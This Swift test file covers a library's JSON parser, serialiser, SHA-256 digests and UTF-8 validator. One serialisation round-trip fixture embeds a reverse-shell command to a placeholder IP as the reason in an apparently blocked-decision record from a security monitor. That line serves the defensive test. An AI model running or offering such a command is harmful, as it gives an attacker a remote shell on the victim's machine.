import CCrypto
import Testing

@testable import CordonBase

@Suite("JSON parsing", .timeLimit(.minutes(10)))
struct JSONParsingTests {
    @Test(
        "valid documents parse to the expected value",
        arguments: [
            ("null", JSONValue.null),
            (" true ", true),
            ("false", false),
            ("0", 0),
            ("-0", 0),
            ("42", 42),
            ("-17", -17),
            ("1.5", 1.5),
            ("1e3", 1000),
            ("2.5E-3", 0.0025),
            ("-1.25e+2", -125),
            ("12345678901234567890", 12_345_678_901_234_567_890.0),
            ("\"\"", ""),
            ("\"héllo ✓\"", "héllo ✓"),
            (#""a\"b\\c\/d\b\f\n\r\t""#, "a\"b\\c/d\u{8}\u{c}\n\r\t"),
            (#""\u0041\u00e9\u2028""#, "Aé\u{2028}"),
            (#""\ud83d\ude00""#, "😀"),
            ("[]", []),
            ("{}", [:]),
            ("[1, [2, [3]], {\"a\": null}]", [1, [2, [3]], ["a": nil]]),
            ("{\"b\": 1, \"a\": 2}", ["b": 1, "a": 2]),
            ("\n\t\r [ 1 ,2 ] \n", [1, 2]),
        ] as [(String, JSONValue)])
    func parses(text: String, expected: JSONValue) throws {
        #expect(try JSONValue.parse(text) == expected)
        #expect(try JSONValue.parse(Array(text.utf8)) == expected)
    }

    @Test("object keys keep their written order")
    func keyOrder() throws {
        let v = try JSONValue.parse(#"{"z":1,"a":2,"m":3}"#)
        #expect(v.objectValue?.map(\.0) == ["z", "a", "m"])
    }

    @Test(
        "malformed documents report what was expected, and where",
        arguments: [
            ("", 1, 1, "expected a JSON value, found end of input"),
            ("   ", 1, 4, "expected a JSON value, found end of input"),
            ("[1,]", 1, 4, "expected a JSON value, found ']'"),
            ("[1 2]", 1, 4, "expected ',' or ']' in array, found '2'"),
            ("{\"a\" 1}", 1, 6, "expected ':' after object key, found '1'"),
            ("{\"a\":1,}", 1, 8, "expected a string key in object, found '}'"),
            ("{a:1}", 1, 2, "expected a string key in object, found 'a'"),
            ("{\"a\":1 \"b\":2}", 1, 8, "expected ',' or '}' in object, found '\"'"),
            ("[1,\n  tru]", 2, 3, "expected a JSON value, found 't'"),
            ("01", 1, 2, "expected '.', 'e' or the end of the number after a leading 0, found '1'"),
            ("1.", 1, 3, "expected a digit after '.' in number, found end of input"),
            ("1e", 1, 3, "expected a digit in the exponent, found end of input"),
            ("-", 1, 2, "expected a digit in number, found end of input"),
            ("+1", 1, 1, "expected a JSON value, found '+'"),
            ("1e400", 1, 1, "number 1e400 is out of range"),
            ("NaN", 1, 1, "expected a JSON value, found 'N'"),
            ("\"abc", 1, 1, "unterminated string"),
            ("\"a\\qb\"", 1, 4, #"expected an escape (\" \\ \/ \b \f \n \r \t \uXXXX), found 'q'"#),
            ("\"\\u12G4\"", 1, 6, "expected 4 hex digits after \\u, found 'G'"),
            ("\"\\ud800\"", 1, 2, "unpaired surrogate \\ud800 in string"),
            ("\"\\udc00\"", 1, 2, "unpaired surrogate \\udc00 in string"),
            ("\"a\tb\"", 1, 3, "expected '\"' to close the string, found a tab (control characters must be escaped)"),
            ("{\"a\":1,\"a\":2}", 1, 8, "duplicate key 'a' in object"),
            ("[1] x", 1, 5, "expected end of input after the JSON value, found 'x'"),
            ("[\"é\", é]", 1, 7, "expected a JSON value, found 'é'"),
            ("// c\n1", 1, 1, "expected a JSON value, found '/'"),
        ] as [(String, Int, Int, String)])
    func rejects(text: String, line: Int, column: Int, message: String) {
        #expect(throws: JSONError.self) { try JSONValue.parse(text) }
        do {
            _ = try JSONValue.parse(text)
        } catch {
            #expect(error.message == message)
            #expect(error.line == line)
            #expect(error.column == column)
            #expect(error.description == "\(line):\(column): \(message)")
        }
    }

    @Test("duplicate keys are found in large objects too")
    func largeObjectDuplicates() throws {
        let keys = (0..<40).map { "\"k\($0)\":\($0)" }
        let unique = try JSONValue.parse("{" + keys.joined(separator: ",") + "}")
        #expect(unique.objectValue?.count == 40)
        #expect(unique["k39"] == 39)
        let text = "{" + keys.joined(separator: ",") + ",\"k3\":0}"
        #expect(throws: JSONError.self) { try JSONValue.parse(text) }
        do {
            _ = try JSONValue.parse(text)
        } catch {
            #expect(error.message == "duplicate key 'k3' in object")
            #expect(error.offset == text.utf8.count - 7)
        }
    }

    @Test("invalid UTF-8 inside a string is rejected at the offending byte")
    func invalidUTF8() {
        let bytes: [UInt8] = Array("[\"ab".utf8) + [0xC3, 0x28] + Array("\"]".utf8)
        #expect(throws: JSONError(line: 1, column: 5, offset: 4, message: "invalid UTF-8 in string")) {
            try JSONValue.parse(bytes)
        }
        // An overlong encoding of '/' must not decode to a slash.
        #expect(throws: JSONError.self) { try JSONValue.parse([0x22, 0xC0, 0xAF, 0x22]) }
        // A UTF-8-encoded surrogate (CESU) is not valid UTF-8 either.
        #expect(throws: JSONError.self) { try JSONValue.parse([0x22, 0xED, 0xA0, 0x80, 0x22]) }
    }

    @Test("nesting is bounded, so hostile input cannot overflow the stack")
    func depth() throws {
        let ok = String(repeating: "[", count: JSONValue.maxDepth) + String(repeating: "]", count: JSONValue.maxDepth)
        #expect(throws: Never.self) { try JSONValue.parse(ok) }
        let deep = String(repeating: "[", count: 100_000)
        #expect(throws: JSONError(line: 1, column: 513, offset: 512, message: "nesting deeper than 512 levels")) {
            try JSONValue.parse(deep)
        }
        let deepObjects = String(repeating: "{\"a\":", count: 600)
        #expect(throws: JSONError.self) { try JSONValue.parse(deepObjects) }
    }

    @Test("accessors return values only for the matching case")
    func accessors() throws {
        let v = try JSONValue.parse(#"{"n":3,"f":1.5,"s":"x","b":true,"a":[1],"z":null,"big":1e300}"#)
        #expect(v["n"]?.intValue == 3)
        #expect(v["f"]?.intValue == nil)
        #expect(v["f"]?.doubleValue == 1.5)
        #expect(v["big"]?.intValue == nil)
        #expect(v["s"]?.stringValue == "x")
        #expect(v["s"]?.intValue == nil)
        #expect(v["b"]?.boolValue == true)
        #expect(v["a"]?[0] == 1)
        #expect(v["a"]?[1] == nil)
        #expect(v["z"]?.isNull == true)
        #expect(v["missing"] == nil)
    }
}

@Suite("JSON key tables", .timeLimit(.minutes(10)))
struct JSONKeyTableTests {
    static let table = JSONKeyTable(["v", "ts", "seq", "decision", "exactly15bytes!", "much-longer-than-15-bytes"])

    @Test(
        "a key table never changes what a document parses to, or which documents are refused",
        arguments: [
            #"{"v":1,"ts":"x","seq":2,"decision":{"decision":"allow"}}"#,
            #"{"exactly15bytes!":1,"exactly15bytes":2,"much-longer-than-15-bytes":3}"#,
            #"{"v\u0031":1,"\u0076":2,"vv":3,"":4,"é":5,"v\"":6}"#,
            #"{"v":1,"\u0076":2}"#,
            #"{"ts":1,"ts":2}"#,
            #"{"v":1,"seq"#,
            "{\"v\u{1}\":1}",
            #"{"decision":{"v":[{"v":1}],"seq":{"ts":null}}}"#,
        ])
    func sameResult(_ text: String) {
        let bytes = Array(text.utf8)
        let plain = Result { () throws(JSONError) -> JSONValue in try JSONValue.parse(bytes[...]) }
        let keyed = Result { () throws(JSONError) -> JSONValue in try JSONValue.parse(bytes[...], keys: Self.table) }
        switch (plain, keyed) {
        case (.success(let a), .success(let b)): #expect(a == b)
        case (.failure(let a), .failure(let b)): #expect(a == b)
        default: Issue.record("with and without the table differ: \(plain) vs \(keyed)")
        }
    }
}

@Suite("JSON serialisation", .timeLimit(.minutes(10)))
struct JSONSerialisationTests {
    @Test(
        "values serialise compactly",
        arguments: [
            (JSONValue.null, "null"),
            (true, "true"),
            (0, "0"),
            (-0.0, "0"),
            (42, "42"),
            (-3, "-3"),
            (1.5, "1.5"),
            (9_007_199_254_740_992, "9007199254740992"),
            (.number(1e20), "1e+20"),
            (.number(0.0000001), "1e-07"),
            (.number(.infinity), "null"),
            (.number(.nan), "null"),
            ("a/b", "\"a/b\""),
            ("q\"b\\", #""q\"b\\""#),
            ("\n\r\t\u{8}\u{c}", #""\n\r\t\b\f""#),
            ("\u{0}\u{1f}\u{7f}", #""\u0000\u001f"# + "\u{7f}\""),
            ("é✓😀", "\"é✓😀\""),
            ("a\u{2028}b\u{2029}c\u{85}d", #""a\u2028b\u2029c\u0085d""#),
            ([1, "x", nil, [:], []], #"[1,"x",null,{},[]]"#),
            (["b": 1, "a": ["c": true]], #"{"b":1,"a":{"c":true}}"#),
        ] as [(JSONValue, String)])
    func serialises(value: JSONValue, text: String) {
        #expect(value.serialized() == text)
    }

    @Test(
        "serialising then parsing gives the same value",
        arguments: [
            #"{"decision":"block","score":92,"reasons":["bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],"x":[1.25,-0.5,1e-300]}"#,
            #"["\u0000\u0001 \" \\ / \u2028 😀 é", {"": ""}, [[[]]], 123456789012345]"#,
            #"{"nested":{"a":[true,false,null],"b":{"c":"d"}}}"#,
        ])
    func roundTrip(text: String) throws {
        let v = try JSONValue.parse(text)
        let again = try JSONValue.parse(v.serialized())
        #expect(again == v)
        #expect(again.serialized() == v.serialized())
    }

    @Test("compact input serialises back to the same text")
    func compactIdentity() throws {
        let text =
            #"{"v":1,"ts":"2026-11-21T12:00:00.123Z","run":"r-1","seq":7,"type":"exec","argv":["sh","-c","echo \"hi\"\n"]}"#
        #expect(try JSONValue.parse(text).serialized() == text)
    }
}

@Suite("SHA-256", .timeLimit(.minutes(10)))
struct DigestTests {
    @Test(
        "hex digests match the FIPS 180-2 test vectors",
        arguments: [
            ("", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
            ("abc", "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"),
            (
                "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
                "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
            ),
        ])
    func vectors(input: String, hex: String) {
        #expect(SHA256.hex(input) == hex)
        #expect(SHA256.hex(Array(input.utf8)) == hex)
    }

    @Test("a million 'a's hash to the published digest")
    func million() {
        let input = [UInt8](repeating: UInt8(ascii: "a"), count: 1_000_000)
        #expect(SHA256.hex(input) == "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0")
        #expect(SHA256.digest(input).count == 32)
    }
}

@Suite("UTF-8 validation", .timeLimit(.minutes(10)))
struct UTF8ValidationTests {
    @Test(
        "the first invalid byte is found; valid input gives its length",
        arguments: [
            ([0x61, 0x62], 2),
            ([0xC3, 0xA9], 2),  // é
            ([0xE2, 0x9C, 0x93], 3),  // ✓
            ([0xF0, 0x9F, 0x98, 0x80], 4),  // 😀
            ([0xF4, 0x8F, 0xBF, 0xBF], 4),  // U+10FFFF
            ([0x61, 0x80], 1),  // lone continuation byte
            ([0xC0, 0xAF], 0),  // overlong '/'
            ([0xE0, 0x80, 0xAF], 0),  // overlong, 3 bytes
            ([0xED, 0xA0, 0x80], 0),  // surrogate D800
            ([0xF4, 0x90, 0x80, 0x80], 0),  // above U+10FFFF
            ([0xF5, 0x80, 0x80, 0x80], 0),
            ([0x61, 0xE2, 0x9C], 1),  // truncated
            ([0xC3, 0x28], 0),
            ([0xFF], 0),
        ] as [([UInt8], Int)])
    func firstInvalid(bytes: [UInt8], offset: Int) {
        #expect(bytes.withUnsafeBufferPointer { UTF8Validation.firstInvalid($0) } == offset)
    }
}
